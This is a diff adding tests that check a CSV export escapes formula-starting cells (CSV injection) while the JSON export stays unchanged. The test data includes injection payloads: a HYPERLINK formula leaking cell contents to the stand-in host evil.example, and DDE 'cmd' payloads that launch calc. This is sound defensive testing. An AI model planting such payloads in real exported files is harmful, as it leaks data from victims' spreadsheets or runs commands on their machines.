@@ -55,6 +55,68 @@ describe("toCsvBlob", () => {
   });
 });
 
+describe("formula cells (CSV injection)", () => {
+  /** A spreadsheet starts a formula at each of these (OWASP's list): =, +, -, @, tab, CR. */
+  const formulas = [
+    '=HYPERLINK("https://evil.example/?"&A1,"open")',
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+  ];
+
+  it("prefixes each text cell that starts a formula with a single quote", async () => {
+    const rows = formulas.map((text) => [text, 1, true]);
+    const csv = await csvRowsOf(await toCsvBlob(tableOf(rows), noWait));
+    expect(csv.slice(1).map((row) => row[0])).toEqual(formulas.map((text) => `'${text}`));
+  });
+
+  it("prefixes a multi-line cell too, which papaparse's own escapeFormulae lets through", async () => {
+    const output = '=HYPERLINK("https://evil.example","open")\nsecond line';
+    const startsWithNewLine = "\r\n=1+1";
+    expect(Papa.unparse([[output, startsWithNewLine]], { escapeFormulae: true })).not.toContain(
+      "'",
+    );
+    const csv = await csvRowsOf(await toCsvBlob(tableOf([[output, startsWithNewLine, 0]]), noWait));
+    expect(csv[1]).toEqual([`'${output}`, `'${startsWithNewLine}`, "0"]);
+  });
+
+  it("neutralises the header as well: a metric's name comes from the device", async () => {
+    const blob = await toCsvBlob(
+      tableOf([], { header: ["time", "=cmd|' /C calc'!A0 (%)"] }),
+      noWait,
+    );
+    expect((await csvRowsOf(blob))[0]).toEqual(["time", "'=cmd|' /C calc'!A0 (%)"]);
+  });
+
+  it("leaves numbers and booleans bare: a negative reading stays a number", async () => {
+    const text = await (
+      await toCsvBlob(
+        tableOf([
+          ["-5", -5, false],
+          ["x", -0.25, true],
+        ]),
+        noWait,
+      )
+    ).text();
+    expect(text.split("\r\n").slice(1, 3)).toEqual([`"'-5",-5,false`, "x,-0.25,true"]);
+  });
+
+  it("leaves text alone whose formula character is not the first", async () => {
+    const harmless = ["a=1+1", " =1+1", "\n=1+1", "'=1+1", "", "e-mail@example.com"];
+    const csv = await csvRowsOf(await toCsvBlob(tableOf([harmless]), noWait));
+    expect(csv[1]).toEqual(harmless);
+  });
+
+  it("leaves the JSON export's text exactly as it was", async () => {
+    const rows = formulas.map((text) => [text, -5, null]);
+    const json = JSON.parse(await (await toJsonBlob(tableOf(rows), noWait)).text());
+    expect(json.rows.map((row: { name: string }) => row.name)).toEqual(formulas);
+    expect(json.rows[0].value).toBe(-5);
+  });
+});
+
 describe("toJsonBlob", () => {
   it("writes kind, time, units, count and one object per row keyed by column", async () => {
     const before = Date.now();
